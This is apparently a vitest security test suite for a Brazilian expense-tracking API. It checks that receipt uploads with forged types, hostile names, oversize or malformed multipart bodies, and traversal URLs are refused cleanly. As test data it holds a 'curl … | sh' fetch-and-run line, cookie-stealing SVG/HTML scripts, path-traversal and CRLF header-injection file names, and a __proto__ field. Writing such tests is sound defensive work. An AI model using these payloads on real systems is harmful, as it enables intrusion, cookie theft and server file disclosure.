/**
 * Receipt uploads as an attacker sends them (POST/PUT /api/despesas, multipart, file in `cupom`).
 * server/src/despesas/despesas.test.ts covers the everyday refusals (an .exe, text as PDF, a plain
 * zip, HTML as PNG, > 20 MB on create); here: more forged types on create and edit, file names
 * built to reach a path, a header or the person's eye, oversize edits, malformed and abusive
 * multipart bodies, and how the stored file is served. A refusal never leaves a row, a movement
 * or a file behind, and nothing is a 500.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { v7 as uuidv7 } from 'uuid';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hoje, somarDias } from '../../../shared/dates';
import { MENSAGEM_ARQUIVO_GRANDE, MENSAGEM_CUPONS_DEMAIS, MENSAGEM_TIPO_ARQUIVO } from '../../../shared/schemas/despesas';
import { MENSAGEM_FORMULARIO_MALFORMADO } from '../../src/despesas/rotas';
import { ANAPOLIS, ARQUIVOS, CALDAS_NOVAS, GOIANIA, criarRotaAtiva, formulario, sha256, type ArquivoTeste } from '../despesas';
import { criarAppDeTeste, type AppDeTeste } from '../helper';
import { esperarCorpoDeErro, fotografia } from './suporte';

interface Pessoa {
  id: number;
  token: string;
}
interface Despesa {
  id: string;
  arquivo_cupom: string | null;
  cupom_url: string | null;
  cupom_mime: string | null;
  cupom_nome: string | null;
}

let t: AppDeTeste;
let tokenAdmin: string;
let ana: Pessoa;
let rotaAna: number;
let bruno: Pessoa;
/** Ana's expense with a JPEG receipt, the target of the edits that must be refused. */
let despesaAna: Despesa;
let bytesDoCupomDaAna: Buffer;

const ONTEM = () => somarDias(hoje('America/Sao_Paulo'), -1);
const campos = (extra: Record<string, string | number> = {}) => ({
  id: uuidv7(),
  rota_id: rotaAna,
  cidade_id: ANAPOLIS,
  data_despesa: ONTEM(),
  tipo: 'alimentacao',
  valor: '12,50',
  descricao: 'Lanche',
  ...extra,
});
const camposEdicao = () => ({ rota_id: rotaAna, cidade_id: ANAPOLIS, data_despesa: ONTEM(), tipo: 'alimentacao', valor: '99', descricao: 'Editada' });

beforeAll(async () => {
  t = await criarAppDeTeste();
  tokenAdmin = await t.tokenAdmin();
  ana = await t.criarFuncionario({ nome: 'Ana Upload' });
  rotaAna = await criarRotaAtiva(t, ana.id, [GOIANIA, ANAPOLIS]);
  bruno = await t.criarFuncionario({ nome: 'Bruno Upload' });
  await criarRotaAtiva(t, bruno.id, [CALDAS_NOVAS]);
  const jpeg = ARQUIVOS.jpeg();
  bytesDoCupomDaAna = jpeg.conteudo;
  const r = await t.chamar({ method: 'POST', url: '/api/despesas', token: ana.token, ...(await formulario(campos(), jpeg)) });
  expect(r.statusCode, r.body).toBe(201);
  despesaAna = r.json().despesa;
});
afterAll(() => t?.fechar());

/** Every file under DATA_DIR (relative paths), to see that a request wrote nothing anywhere else. */
function arquivosDoDataDir(pasta = t.dataDir, base = ''): string[] {
  return fs.readdirSync(pasta, { withFileTypes: true }).flatMap((e) => {
    const relativo = path.posix.join(base, e.name);
    return e.isDirectory() ? arquivosDoDataDir(path.join(pasta, e.name), relativo) : [relativo];
  });
}

interface Parte {
  campo: string;
  valor: Buffer | string;
  /** Sent as filename*=UTF-8''… (RFC 5987), so any character reaches the server decoded. */
  arquivo?: string;
  tipo?: string;
}

const FRONTEIRA = '----FronteiraDeTeste7MA4YWxkTrZu0gW';

/** A multipart body written byte by byte (what a script sends, not a browser). */
function multipartCru(partes: Parte[], { fechar = true, fronteira = FRONTEIRA } = {}): Buffer {
  const pedacos: Buffer[] = [];
  for (const p of partes) {
    let cabecalho = `--${fronteira}\r\nContent-Disposition: form-data; name="${p.campo}"`;
    if (p.arquivo !== undefined) cabecalho += `; filename*=UTF-8''${encodeURIComponent(p.arquivo)}`;
    if (p.tipo) cabecalho += `\r\nContent-Type: ${p.tipo}`;
    pedacos.push(Buffer.from(`${cabecalho}\r\n\r\n`, 'utf8'), Buffer.isBuffer(p.valor) ? p.valor : Buffer.from(p.valor, 'utf8'), Buffer.from('\r\n'));
  }
  if (fechar) pedacos.push(Buffer.from(`--${fronteira}--\r\n`));
  return Buffer.concat(pedacos);
}
const partesDosCampos = (c: Record<string, string | number>): Parte[] => Object.entries(c).map(([campo, v]) => ({ campo, valor: String(v) }));

function enviarCru(corpo: Buffer, opcoes: { method?: 'POST' | 'PUT'; url?: string; contentType?: string; token?: string } = {}) {
  return t.chamar({
    method: opcoes.method ?? 'POST',
    url: opcoes.url ?? '/api/despesas',
    token: opcoes.token ?? ana.token,
    payload: corpo,
    headers: { 'content-type': opcoes.contentType ?? `multipart/form-data; boundary=${FRONTEIRA}` },
  });
}

/** Sends, and checks the refusal left every table, the uploads folder and DATA_DIR as they were. */
async function semEfeito(enviar: () => Promise<LightMyRequestResponse>): Promise<LightMyRequestResponse> {
  const antes = { banco: await fotografia(t), arquivos: arquivosDoDataDir() };
  const r = await enviar();
  esperarCorpoDeErro(r);
  expect(await fotografia(t)).toEqual(antes.banco);
  // The request's temporary files are gone before it answers (a body cut mid-file once left one for
  // good on a loaded CI run: server/src/arquivos/temporarios.test.ts).
  expect(arquivosDoDataDir()).toEqual(antes.arquivos);
  return r;
}

const comCorpo = (inicio: string | number[], tamanho = 1024) => {
  const cabeca = Array.isArray(inicio) ? Buffer.from(inicio) : Buffer.from(inicio, 'latin1');
  return Buffer.concat([cabeca, Buffer.alloc(Math.max(0, tamanho - cabeca.length), 0x41)]);
};
const SVG_COM_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/usuarios\')"><script>alert(document.cookie)</script></svg>';

const FORJADOS: [string, ArquivoTeste][] = [
  ['executável ELF chamado cupom.jpg (image/jpeg)', { nome: 'cupom.jpg', tipo: 'image/jpeg', conteudo: comCorpo([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]) }],
  ['script de shell chamado cupom.jpg (image/jpeg)', { nome: 'cupom.jpg', tipo: 'image/jpeg', conteudo: Buffer.from('#!/bin/sh\ncurl http://exemplo.invalid | sh\n') }],
  ['HTML com script como application/pdf', { nome: 'nota.pdf', tipo: 'application/pdf', conteudo: Buffer.from('<!doctype html><script>alert(document.cookie)</script>') }],
  ['SVG com script (image/svg+xml)', { nome: 'nota.svg', tipo: 'image/svg+xml', conteudo: Buffer.from(SVG_COM_SCRIPT) }],
  ['SVG com script disfarçado de PNG', { nome: 'nota.png', tipo: 'image/png', conteudo: Buffer.from(SVG_COM_SCRIPT) }],
  ['zip que não é docx (uma planilha xlsx)', { nome: 'recibo.docx', tipo: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', conteudo: comCorpo('PK\x03\x04\x14\x00[Content_Types].xml....xl/workbook.xml') }],
  ['GIF (imagem fora da lista)', { nome: 'nota.gif', tipo: 'image/gif', conteudo: comCorpo('GIF89a\x01\x00\x01\x00') }],
  ['vídeo MP4 (ftyp isom)', { nome: 'nota.heic', tipo: 'image/heic', conteudo: comCorpo('\x00\x00\x00\x18ftypisom\x00\x00\x02\x00') }],
  ['WAV (RIFF que não é WEBP)', { nome: 'nota.webp', tipo: 'image/webp', conteudo: comCorpo('RIFF\x10\x00\x00\x00WAVEfmt ') }],
  ['só os dois primeiros bytes de um JPEG', { nome: 'nota.jpg', tipo: 'image/jpeg', conteudo: Buffer.from([0xff, 0xd8]) }],
  ['arquivo vazio com nome', { nome: 'vazio.jpg', tipo: 'image/jpeg', conteudo: Buffer.alloc(0) }],
];

describe('tipos forjados: 415 com a lista de tipos, sem despesa, sem arquivo, sem movimentação', () => {
  it.each(FORJADOS)('registrar com %s', async (_caso, arquivo) => {
    const r = await semEfeito(async () => t.chamar({ method: 'POST', url: '/api/despesas', token: ana.token, ...(await formulario(campos(), arquivo)) }));
    expect(r.statusCode).toBe(415);
    expect(r.json()).toEqual({ error: MENSAGEM_TIPO_ARQUIVO, codigo: 'tipo_nao_suportado' });
  });

  it.each(FORJADOS.slice(0, 5))('editar trocando o cupom por %s: nada muda e o cupom antigo continua igual', async (_caso, arquivo) => {
    const r = await semEfeito(async () => t.chamar({ method: 'PUT', url: `/api/despesas/${despesaAna.id}`, token: ana.token, ...(await formulario(camposEdicao(), arquivo)) }));
    expect(r.statusCode).toBe(415);
    const cupom = await t.chamar({ method: 'GET', url: despesaAna.cupom_url!, token: ana.token });
    expect(sha256(cupom.rawPayload)).toBe(sha256(bytesDoCupomDaAna));
  });
});

describe('o tipo servido é o dos bytes, nunca o que o aparelho declarou', () => {
  it.each([
    ['PNG declarado como image/jpeg', { ...ARQUIVOS.png(), nome: 'foto.jpg', tipo: 'image/jpeg' }, 'image/png', 'png'],
    ['PDF declarado como image/jpeg', { ...ARQUIVOS.pdf(), nome: 'foto.jpg', tipo: 'image/jpeg' }, 'application/pdf', 'pdf'],
    // Starts like a JPEG, carries a page: kept as a JPEG and served as one, so no browser renders the HTML.
    [
      'JPEG com HTML depois do cabeçalho, declarado text/html',
      { nome: 'pagina.html', tipo: 'text/html', conteudo: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<html><script>alert(1)</script></html>')]) },
      'image/jpeg',
      'jpg',
    ],
  ] as const)('%s', async (_caso, arquivo, mime, extensao) => {
    const r = await t.chamar({ method: 'POST', url: '/api/despesas', token: ana.token, ...(await formulario(campos(), arquivo)) });
    expect(r.statusCode, r.body).toBe(201);
    const d = r.json().despesa as Despesa;
    expect(d.cupom_mime).toBe(mime);
    expect(d.arquivo_cupom).toMatch(new RegExp(`^[0-9a-f]{32}\\.${extensao}$`));
    const servido = await t.chamar({ method: 'GET', url: d.cupom_url!, token: ana.token });
    expect(servido.statusCode).toBe(200);
    expect(servido.headers['content-type']).toBe(mime);
    expect(servido.headers['x-content-type-options']).toBe('nosniff');
    expect(sha256(servido.rawPayload)).toBe(sha256(arquivo.conteudo));
    // The name a person saves ends in what the bytes are.
    expect(d.cupom_nome!.toLowerCase()).toMatch(extensao === 'jpg' ? /\.(jpg|jpeg)$/ : new RegExp(`\\.${extensao}$`));
  });
});

/** The extensions a shown name may end in, per stored type. */
const EXTENSOES_ACEITAS: Record<string, RegExp> = { jpg: /\.(jpe?g|jfif)$/i, pdf: /\.pdf$/i, docx: /\.docx$/i };

describe('nomes com caminho, controle ou disfarce: o arquivo vai para uploads/ com nome aleatório e o nome mostrado é seguro', () => {
  it.each([
    ['../../etc/passwd', 'jpg'],
    ['/etc/cron.d/cupom.jpg', 'jpg'],
    ['a/b/c.jpg', 'jpg'],
    ['..\\..\\x.pdf', 'pdf'],
    ['C:\\Windows\\System32\\cupom.jpg', 'jpg'],
    ['%2e%2e%2f%2e%2e%2fapp.db', 'jpg'],
    ['nul\u0000byte.jpg', 'jpg'],
    ['aspas"; filename="evil.html', 'jpg'],
    ['cupom\u202egpj.exe', 'jpg'],
    ['\u200b\u2066nota\u2069.pdf', 'pdf'],
    ['..', 'jpg'],
    ['.', 'pdf'],
    ['recibo.html', 'docx'],
    [`${'a'.repeat(300)}.jpg`, 'jpg'],
    [`${'🧾'.repeat(150)}.jpeg`, 'jpg'],
  ])('%j', async (nome, tipo) => {
    const arquivo = tipo === 'jpg' ? ARQUIVOS.jpeg() : tipo === 'pdf' ? ARQUIVOS.pdf() : ARQUIVOS.docx();
    const antes = arquivosDoDataDir();
    const r = await enviarCru(multipartCru([...partesDosCampos(campos()), { campo: 'cupom', valor: arquivo.conteudo, arquivo: nome, tipo: arquivo.tipo }]));
    await esperarNomeSeguro(r, arquivo, tipo, antes);
  });

  it('como o navegador manda (aspas e quebras de linha escapadas por cento): o mesmo cuidado', async () => {
    for (const nome of ['linha\r\nSet-Cookie: token=forjado; Path=/api.jpg', 'aspas"; filename="evil.html.jpg', '../../etc/passwd']) {
      const antes = arquivosDoDataDir();
      const arquivo = { ...ARQUIVOS.jpeg(), nome };
      const r = await t.chamar({ method: 'POST', url: '/api/despesas', token: ana.token, ...(await formulario(campos(), arquivo)) });
      await esperarNomeSeguro(r, arquivo, 'jpg', antes);
    }
  });

  it('uma quebra de linha de verdade no nome (só um script manda) faz o leitor descartar a parte: nada gravado, nada injetado', async () => {
    const antes = arquivosDoDataDir();
    const nome = 'linha\r\nSet-Cookie: token=forjado; Path=/api\r\n\r\n.jpg';
    const r = await enviarCru(multipartCru([...partesDosCampos(campos()), { campo: 'cupom', valor: ARQUIVOS.jpeg().conteudo, arquivo: nome, tipo: 'image/jpeg' }]));
    expect(r.statusCode, r.body).toBe(201);
    expect(r.json().despesa.arquivo_cupom).toBeNull();
    expect(r.headers['set-cookie']).toBeUndefined();
    expect(arquivosDoDataDir()).toEqual(antes);
  });
});

/** A receipt stored from a hostile name: where it went, the name shown, and how it is served. */
async function esperarNomeSeguro(r: LightMyRequestResponse, arquivo: ArquivoTeste, tipo: string, antes: string[]) {
  expect(r.statusCode, r.body).toBe(201);
  const d = r.json().despesa as Despesa;

  // Stored under uploads/ with a random name: the only new file anywhere in DATA_DIR.
  expect(d.arquivo_cupom).toMatch(new RegExp(`^[0-9a-f]{32}\\.${tipo}$`));
  expect(arquivosDoDataDir().filter((a) => !antes.includes(a))).toEqual([`uploads/${d.arquivo_cupom}`]);

  // The name people see: no path, no control or invisible characters, not a dot name, not too long, well formed.
  const mostrado = d.cupom_nome!;
  expect(mostrado).not.toMatch(/[/\\\p{Cc}\p{Cf}"]/u);
  expect(['', '.', '..']).not.toContain(mostrado);
  expect(mostrado.isWellFormed()).toBe(true);
  expect([...mostrado].length).toBeLessThanOrEqual(120);
  expect(mostrado).toMatch(EXTENSOES_ACEITAS[tipo]!);

  // Served with one clean header line: nothing injected, the ASCII name printable and without quotes.
  const servido = await t.chamar({ method: 'GET', url: d.cupom_url!, token: ana.token });
  expect(servido.statusCode).toBe(200);
  expect(sha256(servido.rawPayload)).toBe(sha256(arquivo.conteudo));
  const disposicao = String(servido.headers['content-disposition']);
  expect(disposicao).toMatch(/^inline; filename="[\x20-\x21\x23-\x5b\x5d-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%\-_.!~*'()]*$/);
  expect(disposicao.match(/filename="([^"]*)"/)![1]).not.toMatch(/[/\\]|^\.{1,2}$/);
  expect(servido.headers['set-cookie']).toBeUndefined();
}

describe('tamanho', () => {
  const grande = () => {
    const b = Buffer.alloc(20 * 1024 * 1024 + 1);
    b.set([0xff, 0xd8, 0xff, 0xe0]);
    return b;
  };

  it('editar com um cupom acima de 20 MB: 413 em português, a despesa e o cupom antigo intactos', async () => {
    const r = await semEfeito(async () =>
      t.chamar({ method: 'PUT', url: `/api/despesas/${despesaAna.id}`, token: ana.token, ...(await formulario(camposEdicao(), { nome: 'g.jpg', tipo: 'image/jpeg', conteudo: grande() })) }),
    );
    expect(r.statusCode).toBe(413);
    expect(r.json()).toEqual({ error: MENSAGEM_ARQUIVO_GRANDE, codigo: 'arquivo_grande' });
    const cupom = await t.chamar({ method: 'GET', url: despesaAna.cupom_url!, token: ana.token });
    expect(sha256(cupom.rawPayload)).toBe(sha256(bytesDoCupomDaAna));
  });

  it('o arquivo grande antes dos campos (nada além dele é lido): 413, nada gravado', async () => {
    const corpo = multipartCru([{ campo: 'cupom', valor: grande(), arquivo: 'g.jpg', tipo: 'image/jpeg' }, ...partesDosCampos(campos())]);
    const r = await semEfeito(() => enviarCru(corpo));
    expect(r.statusCode).toBe(413);
    expect(r.json().error).toBe(MENSAGEM_ARQUIVO_GRANDE);
  });

  it('o arquivo grande num campo que não é o cupom: ainda 413, nada gravado', async () => {
    const corpo = multipartCru([...partesDosCampos(campos()), { campo: 'anexo', valor: grande(), arquivo: 'g.jpg', tipo: 'image/jpeg' }]);
    expect((await semEfeito(() => enviarCru(corpo))).statusCode).toBe(413);
  });

  it('JSON acima de 1 MB na edição (que aceita JSON): 413', async () => {
    const r = await semEfeito(() =>
      t.chamar({ method: 'PUT', url: `/api/despesas/${despesaAna.id}`, token: ana.token, payload: { ...camposEdicao(), descricao: 'x'.repeat(1024 * 1024) } }),
    );
    expect(r.statusCode).toBe(413);
    expect(r.json().error).toBe('A requisição é grande demais.');
  });

  it('anônimo com 25 MB: 401 antes de ler o corpo', async () => {
    const corpo = multipartCru([{ campo: 'cupom', valor: Buffer.alloc(25 * 1024 * 1024), arquivo: 'g.jpg', tipo: 'image/jpeg' }]);
    const r = await semEfeito(() => t.chamar({ method: 'POST', url: '/api/despesas', payload: corpo, headers: { 'content-type': `multipart/form-data; boundary=${FRONTEIRA}` } }));
    expect(r.statusCode).toBe(401);
  });
});

describe('formulários malformados ou abusivos: recusa limpa (4xx), nada gravado', () => {
  const jpeg = () => ARQUIVOS.jpeg().conteudo;
  const casos: [string, () => Promise<LightMyRequestResponse>, number, string][] = [
    [
      // Up to 5 receipts per expense; the sixth is refused before it is read.
      'seis arquivos no campo cupom',
      () =>
        enviarCru(
          multipartCru([
            ...partesDosCampos(campos()),
            ...Array.from({ length: 6 }, (_, i) => ({ campo: 'cupom', valor: jpeg(), arquivo: `${i}.jpg`, tipo: 'image/jpeg' })),
          ]),
        ),
      400,
      MENSAGEM_CUPONS_DEMAIS,
    ],
    [
      'o cupom e mais um arquivo em outro campo',
      () =>
        enviarCru(
          multipartCru([
            ...partesDosCampos(campos()),
            { campo: 'cupom', valor: jpeg(), arquivo: 'a.jpg', tipo: 'image/jpeg' },
            { campo: 'extra', valor: jpeg(), arquivo: 'b.jpg', tipo: 'image/jpeg' },
          ]),
        ),
      400,
      'Envie o comprovante no campo "cupom".',
    ],
    [
      'o arquivo só num campo que não é o cupom',
      () => enviarCru(multipartCru([...partesDosCampos(campos()), { campo: 'anexo', valor: jpeg(), arquivo: 'a.jpg', tipo: 'image/jpeg' }])),
      400,
      'Envie o comprovante no campo "cupom".',
    ],
    [
      '5.000 campos',
      () => enviarCru(multipartCru([...partesDosCampos(campos()), ...Array.from({ length: 5000 }, (_, i) => ({ campo: `campo${i}`, valor: 'x' }))])),
      413,
      'Campos demais na requisição.',
    ],
    ['sem a fronteira no Content-Type', () => enviarCru(multipartCru(partesDosCampos(campos())), { contentType: 'multipart/form-data' }), 400, MENSAGEM_FORMULARIO_MALFORMADO],
    ['cortado antes do fim', () => enviarCru(multipartCru(partesDosCampos(campos()), { fechar: false })), 400, MENSAGEM_FORMULARIO_MALFORMADO],
    [
      'cortado no meio do arquivo',
      () => {
        const inteiro = multipartCru([...partesDosCampos(campos()), { campo: 'cupom', valor: jpeg(), arquivo: 'a.jpg', tipo: 'image/jpeg' }], { fechar: false });
        return enviarCru(inteiro.subarray(0, inteiro.length - 500));
      },
      400,
      MENSAGEM_FORMULARIO_MALFORMADO,
    ],
    ['lixo no lugar do formulário', () => enviarCru(Buffer.from('isto não é um formulário')), 400, MENSAGEM_FORMULARIO_MALFORMADO],
    [
      'outra fronteira no corpo',
      () => enviarCru(multipartCru(partesDosCampos(campos()), { fronteira: 'outra-fronteira' })),
      400,
      MENSAGEM_FORMULARIO_MALFORMADO,
    ],
    [
      'campo __proto__',
      () => enviarCru(multipartCru([...partesDosCampos(campos()), { campo: '__proto__', valor: '{"tipo":"admin"}' }])),
      400,
      'O formulário tem um campo com nome não permitido.',
    ],
    [
      'campo declarado JSON que não é JSON',
      () => enviarCru(multipartCru([...partesDosCampos(campos({ valor: '10' })), { campo: 'descricao', valor: '{quebrado', tipo: 'application/json' }])),
      400,
      'Um campo do formulário declarado como JSON não é um JSON válido.',
    ],
    [
      'multipart numa rota que só aceita JSON',
      async () => t.chamar({ method: 'POST', url: '/api/vendas', token: ana.token, ...(await formulario({ id: uuidv7(), rota_id: rotaAna, cidade_id: GOIANIA, data_venda: ONTEM() })) }),
      415,
      'Tipo de conteúdo não suportado.',
    ],
  ];

  it.each(casos)('%s', async (_caso, enviar, status, mensagem) => {
    const r = await semEfeito(enviar);
    expect(r.statusCode).toBe(status);
    expect(r.json().error).toBe(mensagem);
  });

  it('a edição também recusa um corpo cortado, sem mexer na despesa', async () => {
    const corpo = multipartCru([...partesDosCampos(camposEdicao()), { campo: 'cupom', valor: jpeg(), arquivo: 'a.jpg', tipo: 'image/jpeg' }], { fechar: false });
    const r = await semEfeito(() => enviarCru(corpo.subarray(0, corpo.length - 100), { method: 'PUT', url: `/api/despesas/${despesaAna.id}` }));
    expect(r.statusCode).toBe(400);
  });
});

describe('GET do cupom', () => {
  const pedir = (url: string, token?: string, extra: Partial<InjectOptions> = {}) => t.chamar({ method: 'GET', url, ...(token ? { token } : {}), ...extra });

  it('dono e admin recebem o arquivo com o tipo certo, nosniff, inline, privado e com CSP; B: 404; anônimo: 401', async () => {
    for (const token of [ana.token, tokenAdmin]) {
      const r = await pedir(despesaAna.cupom_url!, token);
      expect(r.statusCode).toBe(200);
      expect(r.headers['content-type']).toBe('image/jpeg');
      expect(r.headers['x-content-type-options']).toBe('nosniff');
      expect(String(r.headers['content-disposition'])).toMatch(/^inline; /);
      expect(r.headers['cache-control']).toBe('private, no-cache');
      expect(String(r.headers['content-security-policy'])).toContain("default-src 'self'");
      expect(sha256(r.rawPayload)).toBe(sha256(bytesDoCupomDaAna));
    }
    const deB = await pedir(despesaAna.cupom_url!, bruno.token);
    expect(deB.statusCode).toBe(404);
    esperarCorpoDeErro(deB, 'nao_encontrado');
    expect(deB.rawPayload.includes(bytesDoCupomDaAna.subarray(0, 64))).toBe(false);
    const anonimo = await pedir(despesaAna.cupom_url!);
    expect(anonimo.statusCode).toBe(401);
    esperarCorpoDeErro(anonimo, 'nao_autenticado');
  });

  it.each([
    '/api/despesas/..%2F..%2Fapp.db/cupom',
    '/api/despesas/..%2F..%2F..%2Fetc%2Fpasswd/cupom',
    '/api/despesas/%2e%2e/cupom',
    '/api/despesas/00000000-0000-0000-0000-000000000000/cupom',
    '/api/uploads/app.db',
    '/uploads/../app.db',
  ])('%s: recusa, nunca um arquivo do servidor', async (url) => {
    const r = await pedir(url, tokenAdmin);
    esperarCorpoDeErro(r);
    expect([400, 404]).toContain(r.statusCode);
    expect(r.body).not.toMatch(/SQLite format|root:/);
  });

  it('despesa excluída: 404 e o arquivo sai do disco', async () => {
    const r = await t.chamar({ method: 'POST', url: '/api/despesas', token: ana.token, ...(await formulario(campos(), ARQUIVOS.pdf())) });
    const d = r.json().despesa as Despesa;
    expect(fs.existsSync(path.join(t.dataDir, 'uploads', d.arquivo_cupom!))).toBe(true);
    expect((await t.chamar({ method: 'DELETE', url: `/api/despesas/${d.id}`, token: ana.token })).statusCode).toBe(200);
    for (const token of [ana.token, tokenAdmin]) esperarCorpoDeErro(await pedir(d.cupom_url!, token), 'nao_encontrado');
    expect(fs.existsSync(path.join(t.dataDir, 'uploads', d.arquivo_cupom!))).toBe(false);
  });
});
